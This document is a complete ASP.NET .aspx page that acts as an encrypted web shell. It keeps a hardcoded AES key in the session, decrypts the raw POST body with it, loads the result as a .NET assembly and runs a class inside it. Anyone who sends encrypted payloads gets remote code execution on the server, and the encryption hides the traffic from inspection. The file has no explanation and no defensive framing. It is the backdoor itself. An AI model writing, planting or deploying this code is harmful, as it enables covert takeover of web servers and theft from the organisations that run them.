<%@ Page Language="C#" %><%@Import Namespace="System.Reflection"%><%
    Session.Add("k", "39b02803d92d0cea");
    byte[] kk = Encoding.Default.GetBytes(Session[0] + ""),
           body = Request.BinaryRead(Request.ContentLength);
    Assembly.Load(new System.Security.Cryptography.RijndaelManaged().CreateDecryptor(kk, kk).TransformFinalBlock(body, 0, body.Length)).CreateInstance("U").Equals(this);
%>
